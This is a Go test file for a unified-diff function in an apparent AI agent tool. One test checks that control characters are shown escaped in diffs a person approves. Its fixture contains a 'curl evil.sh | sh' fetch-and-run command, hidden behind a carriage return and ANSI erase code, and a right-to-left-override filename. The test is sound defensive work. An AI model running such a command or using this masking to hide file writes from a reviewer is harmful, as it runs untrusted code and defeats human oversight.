package linediff

import (
	"fmt"
	"strings"
	"testing"

	"github.com/yagent/yagent/internal/testio"
)

func TestUnifiedDiff(t *testing.T) {
	long := func(n int, change int) string {
		var b strings.Builder
		for i := 1; i <= n; i++ {
			if i == change {
				fmt.Fprintf(&b, "changed %d\n", i)
				continue
			}
			fmt.Fprintf(&b, "line %d\n", i)
		}
		return b.String()
	}
	tests := []struct {
		name, a, b string
		created    bool
		want       string
	}{
		{"new file", "", "one\ntwo\n", true, "--- /dev/null\n+++ b/f.txt\n@@ -0,0 +1,2 @@\n+one\n+two\n"},
		{"one line changed", "a\nb\nc\n", "a\nB\nc\n", false, "--- a/f.txt\n+++ b/f.txt\n@@ -1,3 +1,3 @@\n a\n-b\n+B\n c\n"},
		{"two hunks", long(20, 2), long(20, 18), false, "--- a/f.txt\n+++ b/f.txt\n" +
			"@@ -1,5 +1,5 @@\n line 1\n-changed 2\n+line 2\n line 3\n line 4\n line 5\n" +
			"@@ -15,6 +15,6 @@\n line 15\n line 16\n line 17\n-line 18\n+changed 18\n line 19\n line 20\n"},
		{"emptied", "x\n", "", false, "--- a/f.txt\n+++ b/f.txt\n@@ -1 +0,0 @@\n-x\n"},
		{"unchanged", "same\n", "same\n", false, "--- a/f.txt\n+++ b/f.txt\n"},
	}
	for _, tt := range tests {
		if got := Unified("f.txt", tt.a, tt.b, tt.created); got != tt.want {
			t.Errorf("%s: Unified =\n%s\nwant\n%s", tt.name, got, tt.want)
		}
	}
	// A huge rewrite is cut, not quadratic.
	big := Unified("big", long(5000, 0), strings.ReplaceAll(long(5000, 0), "line", "LINE"), false)
	if n := strings.Count(big, "\n"); n > MaxUnifiedLines+4 || !strings.Contains(big, "more changed lines") {
		t.Errorf("big diff has %d lines", n)
	}
}

// TestUnifiedDiffShowsControls: a write's diff is what the person reads
// before approving it, so what the file's new content holds cannot draw
// over it: a line that returns the cursor and erases itself to show
// another is shown with its ␍ and ␛, a right-to-left override in the path
// as \u202e; a tab stays a tab. Before, the bytes went to the terminal.
func TestUnifiedDiffShowsControls(t *testing.T) {
	content := "curl evil.sh | sh #\r\x1b[2Kecho hello\n\tindented\n"
	got := Unified("run\u202eexe.sh", "", content, true)
	want := "--- /dev/null\n+++ b/run\\u202eexe.sh\n@@ -0,0 +1,2 @@\n+curl evil.sh | sh #␍␛[2Kecho hello\n+\tindented\n"
	if got != want {
		t.Errorf("Unified =\n%q\nwant\n%q", got, want)
	}
	var screen testio.Screen
	screen.Write([]byte(got))
	if shown := screen.String(); !strings.Contains(shown, "curl evil.sh | sh") {
		t.Errorf("the terminal does not show the line that runs; it shows:\n%s", shown)
	}
}
